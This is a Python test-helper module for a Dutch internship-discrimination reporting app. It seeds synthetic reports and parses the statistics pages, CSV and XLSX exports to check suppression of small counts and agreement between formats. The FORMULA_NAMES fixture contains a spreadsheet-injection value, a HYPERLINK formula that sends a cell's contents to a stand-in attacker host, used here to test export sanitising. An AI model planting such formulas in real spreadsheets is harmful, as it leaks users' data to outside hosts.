"""What the statistics tests share: reports seeded with known dates and fields, the
figures they should give, and readers for what a monitor sees (tables, charts, CSV,
XLSX) and whether it agrees with the machine-readable exports.

`test_statistics` tests the pages and exports; `test_statistics_api` the API.
"""

from __future__ import annotations

import csv
import html as html_lib
import io
import re
from datetime import datetime, timedelta
from urllib.parse import urlsplit

import openpyxl
import sqlalchemy as sa

from stagepact import disclosure, statistics
from stagepact.deadlines import local_date
from stagepact.demo import DEMO_PASSWORD
from stagepact.extensions import db
from stagepact.models import (
    Case,
    User,
)
from stagepact.vocab import (
    Outcome,
    Role,
    Status,
)
from tests.factories import (
    make_case,
    make_company,
    make_institution,
    make_user,
)

K = 5
NARRATIVE = "Mijn praktijkopleider Henk de Vries zei dat iemand met mijn naam niet welkom is."
REPORTER = "Yusuf Demir"
REPORTER_EMAIL = "yusuf.demir@example.org"
COMPANY = "Bakkerij Van Dalen BV"
COMPANY_TEXT = "de bakker op de hoek bij station Zwolle"
PROGRAMME = "Bakker niveau 2, klas van meester Jansen"
INCIDENT_PERIOD = "tweede week van de stage bij Van Dalen"
SUMMARY = "Student na twee weken van de stage gestuurd; het bedrijf noemde zijn naam."

DIMENSIONS = [
    "phase",
    "ground",
    "form",
    "who",
    "channel",
    "outcome",
    "referred",
    "escalated",
    "sbb_decision",
]
LEVELS = ["sector", "region", "institution"]
Q1_2025 = {"period": "quarter", "year": 2025, "quarter": 1}
YEAR_2025 = {"period": "year", "year": 2025}

# Labels as the page shows them (nl), written out by hand.
PHASE = {
    "application": "Bij het solliciteren of de selectie",
    "internship": "Tijdens de stage",
    "school": "Op school (bijvoorbeeld: school ging mee in een verzoek van het bedrijf)",
    "other": "Anders",
    "not_given": "Niet ingevuld",
}
MEASURE_HEADER = [
    "Aantal meldingen",
    "Mediaan dagen tot bevestiging",
    "Mediaan dagen tot afsluiten",
    "Deel op tijd bevestigd",
    "Deel op tijd teruggekoppeld",
]
RULE = (
    "Om niemand herkenbaar te maken is elk aantal een klein beetje verstoord: hoogstens 2 "
    "erbij of eraf, en voor dezelfde meldingen altijd op dezelfde manier, in elke tabel. "
    "Aantallen onder de 5, ook 0, staan als <5. Een totaal is op dezelfde manier verstoord "
    "en is daardoor niet altijd precies de som van de cellen. Percentages en medianen staan "
    "er alleen bij 20 meldingen of meer."
)
PER_GROUND_NOTE = "Een melding met meer gronden telt bij elke grond één keer mee."
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")',
    "+31 20 555 0000",
    "-x Vakschool",
    "@y College",
]


# --- Seeding ---------------------------------------------------------------------------------


def at(text: str) -> datetime:
    """A naive UTC moment, as stored."""
    return datetime.fromisoformat(text)


def report(
    institution,
    submitted: datetime,
    *,
    grounds=(),
    ack: float | None = None,
    ack_due_days: int = 5,
    feedback: float | None = None,
    feedback_due_days: int = 90,
    closed: float | None = None,
    outcome: Outcome = Outcome.RESOLVED,
    **fields,
) -> Case:
    """A report submitted at `submitted` (UTC); the other moments in days after it.

    The acknowledgement is due `ack_due_days` calendar days after the Dutch
    submission date, feedback `feedback_due_days` after the acknowledgement's.
    The before_flush listener works out whether each deadline was met.
    """
    case, _code = make_case(institution, grounds=list(grounds), **fields)
    case.submitted_at = submitted
    case.ack_due_on = local_date(submitted) + timedelta(days=ack_due_days)
    if ack is not None:
        case.acknowledged_at = submitted + timedelta(days=ack)
        case.feedback_due_on = local_date(case.acknowledged_at) + timedelta(days=feedback_due_days)
        case.status = Status.TRIAGE
    if feedback is not None:
        case.feedback_at = submitted + timedelta(days=feedback)
        case.status = Status.FOLLOW_UP
    if closed is not None:
        case.closed_at = submitted + timedelta(days=closed)
        case.outcome = outcome
        case.status = Status.CLOSED
    db.session.flush()
    return case


def reports(n: int, institution, submitted: datetime, **fields) -> list[Case]:
    return [report(institution, submitted, **fields) for _ in range(n)]


MARCH = at("2025-03-12T10:00:00")


def publish() -> None:
    """Build the statistics from the seeded reports, as the nightly job does."""
    db.session.flush()
    statistics.publish()
    db.session.commit()


def shown(cases) -> str:
    """What a page shows for a cell of exactly these reports: their count, perturbed with
    their own record keys, or "<5"."""
    value, hidden = disclosure.shown_count(len(cases), sum(c.record_key for c in cases), K)
    return "<5" if hidden == disclosure.SMALL else str(value)


def with_ground(cases, ground: str) -> list[Case]:
    return [c for c in cases if ground in {g.ground for g in c.grounds}]


def seed_mixed() -> dict:
    """Three institutions in two regions (one without), reports over 2024-2025."""
    albeda = make_institution(name="Albeda Vakschool", region="Rijnmond")
    curio = make_institution(name="Curio Breda", region="West-Brabant")
    nova = make_institution(name="Nova Lyceum", region="")
    make_user(Role.HANDLER, albeda, name="Hanna Handler")
    company = make_company(name=COMPANY)
    made = []
    # Albeda, March 2025: 7 application (origin + name), acknowledged after 1..7 days.
    for day in range(1, 8):
        made.append(
            report(
                albeda,
                MARCH,
                phase="application",
                grounds=["origin", "name"],
                form="refused",
                ack=day,
                closed=10 * day,
                outcome=Outcome.RESOLVED if day <= 5 else Outcome.WITHDRAWN,
                company_id=company.id,
                narrative=NARRATIVE,
                is_anonymous=False,
                reporter_name=REPORTER,
                email=REPORTER_EMAIL,
            )
        )
    # Curio, March 2025: 5 application (religion), 6 internship (origin), 2 school (none).
    made += reports(5, curio, MARCH, phase="application", grounds=["religion"], ack=2)
    made += reports(6, curio, MARCH, phase="internship", grounds=["origin"], ack=3, feedback=20)
    made += reports(2, curio, MARCH, phase="school", grounds=[])
    # Nova, February 2025: 3 internship (age), 1 without phase (unknown ground).
    made += reports(3, nova, at("2025-02-03T09:00:00"), phase="internship", grounds=["age"])
    made += reports(1, nova, at("2025-02-03T09:00:00"), grounds=["unknown"])
    # Autumn 2024 (school year 2024-2025, calendar year 2024): 6 at Albeda, 2 at Nova.
    made += reports(6, albeda, at("2024-10-01T08:00:00"), phase="other", grounds=["gender"])
    made += reports(2, nova, at("2024-10-01T08:00:00"), phase="other", grounds=["gender"])
    publish()
    return {"albeda": albeda, "curio": curio, "nova": nova, "cases": made, "company": company}


# --- Reading what the monitor sees ----------------------------------------------------------


def table_rows(page: str, table_id: str = "stats-table") -> list[list[str]]:
    """The header and body rows of a statistics table, as text."""
    match = re.search(rf'<table[^>]*id="{table_id}".*?</table>', page, re.S)
    assert match, f"no table {table_id} on the page"
    return [
        [html_lib.unescape(c).strip() for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", tr, re.S)]
        for tr in re.findall(r"<tr[^>]*>.*?</tr>", match.group(0), re.S)
    ]


def caption(page: str, table_id: str = "stats-table") -> tuple[str, str]:
    match = re.search(rf'<caption id="{table_id}-caption">(.*?)</caption>', page, re.S)
    assert match
    title, _sep, period = html_lib.unescape(match.group(1)).rpartition(", ")
    return title, period


def hints_after(page: str, table_id: str = "stats-table") -> list[str]:
    """The rule and the notes printed under a table."""
    tail = page.split(f'id="{table_id}"', 1)[1].split("</table>", 1)[1]
    tail = re.split(r"<figure|<section|<p>", tail, maxsplit=1)[0]
    return [html_lib.unescape(h).strip() for h in re.findall(r'<p class="hint">(.*?)</p>', tail)]


def column(rows: list[list[str]], index: int = 1) -> dict[str, str]:
    """Row label -> the cell in one column (the count, by default)."""
    return {row[0]: row[index] for row in rows[1:]}


def visible_numbers(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows[1:] for cell in row[1:]]


def chart_groups(page: str) -> list[tuple[str, list[str], int]]:
    """(label, bar texts, drawn bars) per group of the SVG chart."""
    svg = re.search(r"<svg[^>]*role=\"img\".*?</svg>", page, re.S).group(0)
    groups: list[tuple[str, list[str], int]] = []
    for element in re.findall(r"<text [^>]*>.*?</text>|<rect [^>]*>", svg, re.S):
        text = html_lib.unescape(re.sub(r"<[^>]+>", "", element)).strip()
        if element.startswith("<rect"):
            label, texts, drawn = groups[-1]
            groups[-1] = (label, texts, drawn + 1)
        elif 'text-anchor="end"' in element:
            groups.append((text, [], 0))
        else:
            groups[-1][1].append(text)
    return groups


def csv_rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def xlsx_book(response):
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def xlsx_rows(response, sheet: int = 0) -> list[list[object]]:
    book = xlsx_book(response)
    return [list(row) for row in book.worksheets[sheet].iter_rows(values_only=True)]


def safe(text: str) -> str:
    """What a spreadsheet-safe export makes of a text (a leading apostrophe)."""
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def kinds(header: list[str]) -> list[str]:
    """What each numeric column holds: 'count', 'median' or 'share'."""
    out = []
    for name in header[1:]:
        if name.startswith("Mediaan"):
            out.append("median")
        elif name.startswith("Deel"):
            out.append("share")
        else:
            out.append("count")
    return out


def agrees(text: str, value: object, kind: str) -> bool:
    """Whether a machine value (XLSX, JSON, API) is the number the page shows as `text`."""
    if text == "–":
        return value is None
    if text == "<5":
        return value == "<5"
    if isinstance(value, bool) or not isinstance(value, int):
        return False  # counts, whole days and whole percents are whole numbers
    if kind == "share":
        return value == int(text.rstrip("%"))
    return value == int(text)


def assert_machine_rows_match_page(page_rows: list[list[str]], machine_rows) -> None:
    """Machine rows as (label, values) against the page's text rows."""
    header, body = page_rows[0], page_rows[1:]
    assert len(machine_rows) == len(body)
    for shown_row, (label, values) in zip(body, machine_rows, strict=True):
        assert label == shown_row[0]
        assert len(values) == len(shown_row) - 1
        for text, value, kind in zip(shown_row[1:], values, kinds(header), strict=True):
            assert agrees(text, value, kind), (shown_row[0], text, value, kind)


def count_cells(header: list[str], rows) -> list:
    """The cells of the count columns (not medians or shares) of text rows."""
    columns = [i + 1 for i, kind in enumerate(kinds(header)) if kind == "count"]
    return [row[i] for row in rows for i in columns]


def no_small_count(cells) -> bool:
    """True when no cell shows a count from 1 to 4."""
    for cell in cells:
        if isinstance(cell, bool) or cell is None:
            continue
        if isinstance(cell, int) and 1 <= cell <= K - 1:
            return False
        if isinstance(cell, str) and re.fullmatch(r"[1-4]", cell.strip()):
            return False
    return True


def every_row() -> dict[str, list]:
    """Every row of every table, to see that a request changed nothing."""
    db.session.expire_all()
    return {
        table.name: sorted((tuple(row) for row in db.session.execute(sa.select(table))), key=repr)
        for table in db.metadata.sorted_tables
    }


# --- Pages and the demo ------------------------------------------------------------------


def view(client, status: int = 200, **params):
    """The statistics page for `params` (committed first, as a request would see it)."""
    db.session.commit()
    response = client.get("/statistieken/", query_string=params)
    assert response.status_code == status, response.get_data(as_text=True)[:2000]
    return response.get_data(as_text=True)


def counts(client, **params) -> dict[str, str]:
    return column(table_rows(view(client, **params)))


def load_demo(runner, auth):
    """The demo data (its statistics computed), with its monitor logged in."""
    result = runner.invoke(args=["stagepact", "demo"])
    assert result.exit_code == 0, result.output
    db.session.expire_all()
    monitor = db.session.scalar(sa.select(User).where(User.role == Role.MONITOR))
    assert monitor is not None and monitor.email in result.output
    response = auth.login(monitor, DEMO_PASSWORD)
    assert response.status_code == 302
    assert urlsplit(response.headers["Location"]).path == "/statistieken/"
    return monitor
